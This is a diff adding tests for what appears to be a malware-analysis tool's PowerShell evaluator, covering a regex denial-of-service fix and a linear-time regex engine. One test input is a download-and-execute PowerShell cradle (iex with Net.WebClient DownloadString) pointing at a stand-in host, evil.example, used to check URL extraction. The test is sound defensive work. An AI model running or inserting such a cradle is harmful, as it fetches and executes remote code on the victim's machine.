@@ -3,7 +3,9 @@
 
 import assert from 'node:assert/strict';
 import { test } from 'node:test';
+import fc from 'fast-check';
 import { msgAnalyzer } from '../src/analyzers/mail/msg.ts';
+import { linearRegExp } from '../src/analyzers/powershell/linear-regex.ts';
 import { powershellAnalyzer } from '../src/analyzers/powershell/index.ts';
 import type { AnalyzerResult } from '../src/engine/types.ts';
 import { outlookMsg } from './generators/msg.ts';
@@ -101,4 +103,44 @@ test('msg: directory entries that link in a loop are reported as unreadable, not
   const unreadable = (r.findings ?? []).find((f) => f.id === 'email.msg.unparseable');
   assert.ok(unreadable, findingIds(r).join(', '));
   assert.match(unreadable.evidence, /directory entries link in a loop/);
+});
+
+test('PowerShell: a catastrophic regular expression (a+)+$ no longer blocks the process', { timeout: 60_000 }, async () => {
+  // Found by probing the evaluator with hostile patterns: 30 characters took 35 s, each one more doubled it,
+  // and the synchronous evaluator cannot be interrupted by the analysis timer.
+  const r = await powershell("$x = ('a' * 40) + '!'; if ($x -match '(a+)+$') { iex 'matched' } else { iex 'not matched' }");
+  assert.ok((r.findings ?? []).some((f) => f.id === 'powershell.exec.layer' && f.evidence.includes('not matched')), JSON.stringify(r.findings));
+  for (const script of ["('a' * 40 + '!') -replace '(a|a)+$', 'b'", "[regex]::Matches(('a' * 40) + '!', '(a+)+$')", "('a' * 20000) -like ('*a' * 40 + '*b')"]) {
+    assert.ok(Array.isArray((await powershell(script)).findings), script);
+  }
+});
+
+test('PowerShell: case-insensitive patterns still resolve (the linear engine gets both cases spelled out)', async () => {
+  const r = await powershell("$u = 'http://X.example/a' -replace 'x\\.EXAMPLE', 'evil.example'; iex (New-Object Net.WebClient).DownloadString($u)");
+  assert.ok((r.iocs ?? []).some((i) => i.type === 'url' && i.value === 'http://evil.example/a'), JSON.stringify(r.iocs));
+});
+
+test('linear-time regular expressions match like the backtracking engine, case-insensitive included', () => {
+  const atom = fc.constantFrom('a', 'B', 'c', '.', '\\d', '\\W', '[a-c]', '[^B]', '[A-Cx]', '(?:ab)', '(a|B)', '(?<n>c)', '\\x41', '\\u0062', '\\e', '[\\x41-\\x43]', '[b\\x63]', '-', '\\.');
+  const quantifier = fc.constantFrom('', '', '*', '+', '?', '{1,2}');
+  const pattern = fc.array(fc.tuple(atom, quantifier), { minLength: 1, maxLength: 5 }).map((parts) => parts.map(([a, q]) => a + q).join(''));
+  const subject = fc.string({ unit: fc.constantFrom('a', 'A', 'b', 'B', 'c', 'C', 'x', '1', '-', '.', ' '), maxLength: 10 });
+  fc.assert(
+    fc.property(pattern, subject, fc.constantFrom('i', 'gi', ''), (p, s, flags) => {
+      let valid = true;
+      try {
+        new RegExp(p, flags);
+      } catch {
+        valid = false; // e.g. a group name used twice: not a pattern at all
+      }
+      fc.pre(valid);
+      const linear = linearRegExp(p, flags);
+      if (!linear) {
+        assert.match(p, /\\x4\d-/, `${p} /${flags} compiles for the linear engine`); // only an escaped range end is refused
+        return;
+      }
+      assert.deepEqual([...s.matchAll(new RegExp(linear.source, linear.flags.replace(/[lg]/g, '') + 'g'))].map((m) => [m.index, m[0]]), [...s.matchAll(new RegExp(p, flags.replace('g', '') + 'g'))].map((m) => [m.index, m[0]]), `${p} /${flags} on ${JSON.stringify(s)}`);
+    }),
+    { numRuns: 2000, seed: 424242 },
+  );
 });
